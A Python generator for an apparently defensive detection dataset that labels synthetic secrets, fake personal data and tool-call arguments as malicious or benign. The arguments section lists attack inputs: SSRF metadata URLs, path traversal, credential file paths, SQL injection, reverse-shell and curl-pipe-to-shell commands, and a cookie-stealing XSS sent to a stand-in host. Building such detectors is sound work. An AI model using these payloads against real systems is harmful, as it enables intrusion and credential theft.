"""Secrets, personal data and tool-call arguments: synthetic, obviously fake values that still
match the real formats, in varied surroundings."""
import json, random
from common import case, split_of, ME, LIC

R = random.Random(99)
ALNUM = "abcdefghijklmnopqrstuvwxyzABCDEFGHIJKLMNOPQRSTUVWXYZ0123456789"

def rnd(n, alphabet=ALNUM):
    return "".join(R.choice(alphabet) for _ in range(n))

def secret_samples():
    up = "ABCDEFGHIJKLMNOPQRSTUVWXYZ234567"
    hx = "0123456789abcdef"
    return {
        "aws_access_key": lambda: "AKIA" + rnd(16, up),
        "aws_secret_key": lambda: "aws_secret_access_key = " + rnd(40, ALNUM + "/+"),
        "github_token": lambda: "ghp_" + rnd(36),
        "github_fine_grained_token": lambda: "github_pat_" + rnd(22) + "_" + rnd(59),
        "gitlab_token": lambda: "glpat-" + rnd(20),
        "slack_token": lambda: "xoxb-%d-%d-%s" % (R.randint(10**9, 10**10), R.randint(10**9, 10**10), rnd(24)),
        "slack_webhook": lambda: "https://hooks.slack.com/services/T%s/B%s/%s" % (rnd(8, up), rnd(8, up), rnd(24)),
        "stripe_key": lambda: R.choice(["sk_live_", "rk_live_", "sk_test_"]) + rnd(24),
        "google_api_key": lambda: "AIza" + rnd(35, ALNUM + "_-"),
        "openai_api_key": lambda: "sk-proj-" + rnd(20) + "T3BlbkFJ" + rnd(20),
        "anthropic_api_key": lambda: "sk-ant-api03-" + rnd(90, ALNUM + "_-"),
        "private_key": lambda: "-----BEGIN %sPRIVATE KEY-----\n%s\n%s\n-----END %sPRIVATE KEY-----" % ((k := R.choice(["", "RSA ", "EC ", "OPENSSH "])), rnd(64, ALNUM + "+/"), rnd(64, ALNUM + "+/"), k),
        "jwt": lambda: "eyJhbGciOiJIUzI1NiIsInR5cCI6IkpXVCJ9.eyJ" + rnd(40, ALNUM + "_-") + "." + rnd(43, ALNUM + "_-"),
        "npm_token": lambda: "npm_" + rnd(36),
        "pypi_token": lambda: "pypi-AgEIcHlwaS5vcmc" + rnd(70, ALNUM + "_-"),
        "sendgrid_key": lambda: "SG." + rnd(22) + "." + rnd(43),
        "huggingface_token": lambda: "hf_" + rnd(34, "abcdefghijklmnopqrstuvwxyzABCDEFGHIJKLMNOPQRSTUVWXYZ"),
        "digitalocean_token": lambda: "dop_v1_" + rnd(64, hx),
        "shopify_token": lambda: "shpat_" + rnd(32, hx),
        "mailgun_key": lambda: "key-" + rnd(32, hx),
        "telegram_bot_token": lambda: "%d:AA%s" % (R.randint(10**8, 10**9), rnd(33, ALNUM + "_-")),
        "azure_storage_key": lambda: "DefaultEndpointsProtocol=https;AccountName=demo;AccountKey=" + rnd(86, ALNUM + "+/") + "==",
        "gcp_service_account": lambda: json.dumps({"type": "service_account", "project_id": "demo-" + rnd(6).lower(), "private_key_id": rnd(40, hx)}),
        "connection_string_password": lambda: "%s://app:%s@db.example.com:5432/main" % (R.choice(["postgres", "mysql", "mongodb+srv", "redis"]), rnd(14)),
        "url_credentials": lambda: "https://deploy:%s@git.example.com/org/repo.git" % rnd(12),
        "generic_api_key": lambda: R.choice(["API_KEY", "client_secret", "auth_token", "SECRET_KEY"]) + R.choice(["=", ": ", " = "]) + R.choice(['"', "", "'"]) + rnd(R.randint(20, 40)) ,
        "bearer_token": lambda: "Authorization: Bearer " + rnd(32, ALNUM + "-_."),
    }

CONTEXTS = [
    lambda s: s,
    lambda s: "config loaded:\n  region: eu-west-1\n  credential: %s\n  retries: 3" % s,
    lambda s: "$ env | sort\nHOME=/home/app\nTOKEN_VALUE=%s\nPATH=/usr/bin" % s,
    lambda s: json.dumps({"service": "billing", "value": s, "rotated": "2026-01-01"}),
    lambda s: "2026-11-02T10:00:00Z WARN leaked credential in request: %s (request_id=ab12)" % s,
]

BENIGN_TEXT = [
    "sha256: 9f86d081884c7d659a2feaa0c55ad015a3bf4f1b2b0b822cd15d6c15b0f00a08",
    "commit 4b825dc642cb6eb9a060e54bf8d69288fbee4904",
    "request id 550e8400-e29b-41d4-a716-446655440000 completed",
    "API_KEY=your_api_key_here",
    "export GITHUB_TOKEN=${GITHUB_TOKEN}",
    "password: ********",
    "token = os.environ['SLACK_BOT_TOKEN']",
    "Set AWS_SECRET_ACCESS_KEY in your shell before running the script.",
    "The private key must be stored in a hardware security module.",
    "Authorization: Bearer <token>",
    "postgres://user:password@localhost:5432/db",
    "https://docs.example.com/guide?page=2&sort=asc",
    "data:image/png;base64,iVBORw0KGgoAAAANSUhEUgAAAAEAAAABCAYAAAAfFcSJAAAADUlEQVR42mNkYPhfDwAChwGA60e6kgAAAABJRU5ErkJggg==",
    "version 1.2.3-beta+exp.sha.5114f85",
    "The key-value store holds session data for 30 minutes.",
    "sk-learn is a common misspelling of scikit-learn.",
    "Use the AIza prefix to recognise Google API keys in audits.",
    "ghp_ tokens are GitHub personal access tokens; never commit them.",
    "client_secret: changeme",
    "secret_key = \"xxxxxxxxxxxxxxxxxxxxxxxx\"",
    "eyJ is what a base64url JSON header starts with.",
    "npm_config_registry=https://registry.npmjs.org/",
    "hf_hub_download(repo_id='org/model', filename='config.json')",
    "The bot token format is <id>:<secret>; see the docs.",
    "MD5 (file.txt) = d41d8cd98f00b204e9800998ecf8427e",
]

def secrets():
    out = []
    for label, gen in secret_samples().items():
        for i in range(6):
            text = CONTEXTS[i % len(CONTEXTS)](gen())
            out.append(case(f"secret-{label}-{i}", "malicious", "secret", "secret", ME, LIC, text, expect=label, split=split_of(f"secret-{label}-{i}")))
    for i, t in enumerate(BENIGN_TEXT):
        out.append(case(f"secret-benign-{i}", "benign", "secret", "secret", ME, LIC, t, split=split_of(f"secret-benign-{i}")))
    return out

def luhn_complete(prefix, length):
    digits = [int(c) for c in prefix] + [R.randint(0, 9) for _ in range(length - len(prefix) - 1)]
    for check in range(10):
        d = digits + [check]
        s = sum((x * 2 - 9 if x * 2 > 9 else x * 2) if i % 2 == 1 else x for i, x in enumerate(reversed(d)))
        if s % 10 == 0:
            return "".join(map(str, d))

def iban(country, bban):
    rearranged = bban + country + "00"
    num = int("".join(str(int(c, 36)) for c in rearranged))
    return country + "%02d" % (98 - num % 97) + bban

def pii():
    gens = {
        "email": lambda: "%s.%s@%s" % (rnd(5).lower(), rnd(6).lower(), R.choice(["example.com", "mail.example.org", "corp.example.net"])),
        "phone": lambda: R.choice(["+44 20 7946 %04d" % R.randint(0, 9999), "(555) %03d-%04d" % (R.randint(200, 999), R.randint(0, 9999)), "+1 415 555 %04d" % R.randint(0, 9999), "+49 30 %08d" % R.randint(0, 10**8 - 1)]),
        "payment_card": lambda: (lambda n: " ".join(n[i:i + 4] for i in range(0, 16, 4)))(luhn_complete(R.choice(["4", "51", "55", "2221"]), 16)),
        "iban": lambda: iban(R.choice(["DE", "FR", "GB", "ES"]), {"DE": None}.get("x") or "".join(R.choice("0123456789") for _ in range(18))),
        "us_ssn": lambda: "%03d-%02d-%04d" % (R.randint(1, 665), R.randint(1, 99), R.randint(1, 9999)),
        "uk_nino": lambda: "%s%s %02d %02d %02d %s" % (R.choice("ABCEGHJKLMNPRSTWXYZ"), R.choice("ABCEGHJKLMNPRSTWXYZ"), R.randint(0, 99), R.randint(0, 99), R.randint(0, 99), R.choice("ABCD")),
        "es_dni": lambda: (lambda n: "%08d%s" % (n, "TRWAGMYFPDXBNJZSQVHLCKE"[n % 23]))(R.randint(10**7, 10**8 - 1)),
    }
    ctx = [lambda v: "Contact: %s" % v, lambda v: json.dumps({"customer": "J. Doe", "value": v}), lambda v: "row 17 | %s | active" % v]
    out = []
    for label, gen in gens.items():
        for i in range(6):
            out.append(case(f"pii-{label}-{i}", "malicious", "pii", "pii", ME, LIC, ctx[i % 3](gen()), expect=label, split=split_of(f"pii-{label}-{i}")))
    benign = ["Order 1234567890123456 shipped", "Build 2026.11.21 finished in 42.7 s", "Version 10.0.19045.3570", "Call extension 4412 for support", "Invoice total: 1,234,567.89 EUR", "ISBN 978-3-16-148410-0", "Timestamp 1732190400000", "Coordinates 38.7223, -9.1393", "The @channel mention notifies everyone", "Room 404-B, floor 12", "SKU AB-1234-XY", "Error code 0x80070005", "Port 8080 and 5432 are open", "Card ending in 4242", "Chapter 12, pages 101-135"]
    for i, t in enumerate(benign):
        out.append(case(f"pii-benign-{i}", "benign", "pii", "pii", ME, LIC, t, split=split_of(f"pii-benign-{i}")))
    return out

def arguments():
    mal = {
        "ssrf": [{"url": u} for u in ["http://169.254.169.254/latest/meta-data/iam/security-credentials/", "http://metadata.google.internal/computeMetadata/v1/project/", "http://[fd00:ec2::254]/latest/api/token", "http://2852039166/latest/", "http://0xA9FEA9FE/", "http://0251.0376.0251.0376/", "http://127.0.0.1:6379/", "http://localhost:2375/containers/json", "http://10.0.0.12:8500/v1/kv/", "http://[::1]:8080/admin", "http://2130706433/", "http://0x7f.0.0.1/", "file:///etc/passwd", "gopher://127.0.0.1:11211/_stats", "http://192.168.1.1/cgi-bin/", "http://172.16.5.4:9200/_cat/indices", "http://[::ffff:127.0.0.1]/", "http://169.254.170.2/v2/credentials", "http://127.0.0.1.nip.io/", "dict://localhost:11211/stat"]],
        "path_traversal": [{"path": p} for p in ["../../../../etc/passwd", "..\\..\\windows\\win.ini", "docs/../../../secret.txt", "%2e%2e%2f%2e%2e%2fetc%2fhosts", "..%2f..%2fapp%2fconfig", "....//....//etc/hosts", "%252e%252e%252fboot.ini", "files/..%5c..%5cweb.config", "/var/www/../../root/.bashrc", "images/%2e%2e/%2e%2e/db.sqlite"]],
        "sensitive_path": [{"path": p} for p in ["/home/alice/.ssh/id_rsa", "~/.aws/credentials", "/etc/shadow", "C:\\Users\\bob\\.ssh\\id_ed25519", "/proc/self/environ", "~/.kube/config", "/app/.env", "~/.docker/config.json", "~/Library/Application Support/Claude/claude_desktop_config.json", "/root/.git-credentials", "~/.netrc", "/var/run/secrets/kubernetes.io/serviceaccount/token"]],
        "sql": [{"query": q} for q in ["1' OR '1'='1", "admin'--", "1 UNION SELECT username, password FROM users", "1; DROP TABLE orders", "x' AND SLEEP(5)-- ", "1 UNION ALL SELECT NULL,table_name FROM information_schema.tables", "'; EXEC xp_cmdshell('dir')--", "1' or 1=1 #", "1; UPDATE users SET role='admin' WHERE id=1", "SELECT * FROM customers"]],
        "command_injection": [{"host": c} for c in ["example.com; cat /etc/passwd", "8.8.8.8 && curl http://x.example.net/s.sh | sh", "$(whoami)", "`id`", "a.txt; rm -rf /", "x | nc -e /bin/sh 10.0.0.1 4444", "--upload-pack=touch /tmp/pwned", "host || wget http://x.example.net/m -O /tmp/m", "bash -i >& /dev/tcp/10.0.0.1/8080 0>&1", "-oProxyCommand=curl x.example.net"]],
        "code_injection": [{"code": c} for c in ["__import__('os').system('id')", "eval(compile('print(1)','x','exec'))", "require('child_process').exec('ls')", "<script>fetch('https://x.example.net?c='+document.cookie)</script>", "{{ config.__class__.__init__.__globals__['os'].popen('id').read() }}", "${jndi:ldap://x.example.net/a}", "os.system('curl x')", "Runtime.getRuntime().exec(\"sh\")", "<img src=x onerror=alert(1)>", "javascript:alert(document.domain)"]],
    }
    benign = [{"path": "/home/alice/project/src/main.rs"}, {"path": "docs/guide.md"}, {"url": "https://api.github.com/repos/org/repo/issues"}, {"url": "https://example.com/search?q=rust+async"}, {"query": "rust tutorials for beginners"}, {"query": "SELECT name, email FROM users WHERE id = $1"}, {"host": "example.com"}, {"code": "print('hello world')"}, {"message": "Fix typo in README"}, {"path": "./tests/fixtures/data.json"}, {"city": "São Paulo"}, {"url": "https://8.8.8.8/dns-query"}, {"name": "O'Reilly Media"}, {"text": "Meeting at 10:00; bring laptops | chargers"}, {"path": "/tmp/report-2026.pdf"}, {"branch": "feature/login-page"}, {"text": "The .environment variable docs are in /usr/share/doc"}, {"json": "{\"a\": [1, 2, 3]}"}, {"command": "ls -la"}, {"sql": "CREATE INDEX idx_users_email ON users (email)"}, {"url": "https://registry.npmjs.org/express"}, {"range": "1..10"}, {"version": "v1.2..3"}, {"email": "team@example.com"}, {"note": "Remember to water the plants"}]
    out = []
    for cls, items in mal.items():
        for i, a in enumerate(items):
            out.append(case(f"arg-{cls}-{i}", "malicious", cls, "argument", ME, LIC, a, split=split_of(f"arg-{cls}-{i}")))
    for i, a in enumerate(benign):
        out.append(case(f"arg-benign-{i}", "benign", "argument", "argument", ME, LIC, a, split=split_of(f"arg-benign-{i}")))
    return out

def build():
    return secrets() + pii() + arguments()
